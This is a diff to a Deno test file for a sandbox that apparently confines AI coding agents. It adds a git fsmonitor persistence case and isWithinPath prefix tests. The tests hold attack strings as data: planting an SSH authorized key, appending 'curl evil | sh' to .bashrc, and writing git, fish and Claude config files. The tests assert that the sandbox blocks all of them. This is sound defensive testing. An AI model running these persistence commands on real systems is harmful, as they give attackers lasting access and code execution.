@@ -1,5 +1,11 @@
 import assert from "node:assert/strict";
-import { platform, runCommand, sandboxArgv, SandboxProfileError } from "../../lib/platform/mod.ts";
+import {
+  isWithinPath,
+  platform,
+  runCommand,
+  sandboxArgv,
+  SandboxProfileError,
+} from "../../lib/platform/mod.ts";
 import { bareWorktree } from "./_git_worktree.ts";
 import { resolvePaths, userProtectedPaths } from "../../lib/config/mod.ts";
 import { makeBox, NOBODY, policyFor, removeBox, runInSandbox, runtime } from "./_sandbox_box.ts";
@@ -297,6 +303,8 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
       const home = box.ws;
       await platform.fs.writeTextFile(`${home}/.bashrc`, "# mine\n");
       await platform.fs.writeTextFile(`${home}/notes.md`, "notes\n");
+      await platform.fs.mkdir(`${home}/.config`);
+      await platform.fs.chmod(`${home}/.config`, 0o777);
       await platform.fs.chmod(`${home}/.bashrc`, 0o666);
       await platform.fs.chmod(`${home}/notes.md`, 0o666);
       const paths = resolvePaths(platform.fs, {
@@ -309,6 +317,10 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
         "mkdir -p .ssh && echo key >> .ssh/authorized_keys",
         "echo 'curl evil | sh' >> .bashrc",
         "mkdir -p .config/fish && echo x > .config/fish/config.fish",
+        // With ~/.config missing, .config/fish's placeholder (bound on ~/.config) would cover this too;
+        // ~/.config exists here, so .config/git is held by its own entry: a generated mutant dropping
+        // it survived before (#26 item 4).
+        "mkdir -p .config/git && echo '[core] fsmonitor = x' > .config/git/config",
         "echo '[core] fsmonitor = x' > .gitconfig",
         "mkdir -p .claude && echo '{}' > .claude/settings.json",
       ].map((attack) => `(${attack}) 2>/dev/null && echo "planted: ${attack.replaceAll('"', "'")}"`);
@@ -316,7 +328,8 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
         as: as && [...as],
       });
       assert.equal(result.stdout, "wrote\n");
-      assert.deepStrictEqual(await names(home), [".bashrc", "notes.md"]);
+      assert.deepStrictEqual(await names(home), [".bashrc", ".config", "notes.md"]);
+      assert.deepStrictEqual(await names(`${home}/.config`), []);
       assert.equal(await platform.fs.readTextFile(`${home}/.bashrc`), "# mine\n");
       assert.equal(await platform.fs.readTextFile(`${home}/notes.md`), "ok\n");
     } finally {
@@ -351,4 +364,18 @@ Deno.test("sandboxArgv() keeps $CODEX_HOME and $CLAUDE_CONFIG_DIR read-only when
   } finally {
     await removeBox(box);
   }
+});
+
+// A generated mutant (`root + "/"` → `root + ""`) survived every sandbox test (#26 item 4): a
+// sibling that shares the root's name as a prefix counted as inside it.
+Deno.test("isWithinPath() does not take a sibling sharing the root's prefix for a path inside it", () => {
+  assert.equal(isWithinPath("/work/ws", "/work/ws2/.git"), false);
+  assert.equal(isWithinPath("/work/ws", "/work/wsx"), false);
+});
+
+Deno.test("isWithinPath() holds the root itself and what lies below it, and / holds everything", () => {
+  assert.equal(isWithinPath("/work/ws", "/work/ws"), true);
+  assert.equal(isWithinPath("/work/ws", "/work/ws/sub/.git"), true);
+  assert.equal(isWithinPath("/", "/work/ws2"), true);
+  assert.equal(isWithinPath("/work/ws/sub", "/work/ws"), false);
 });
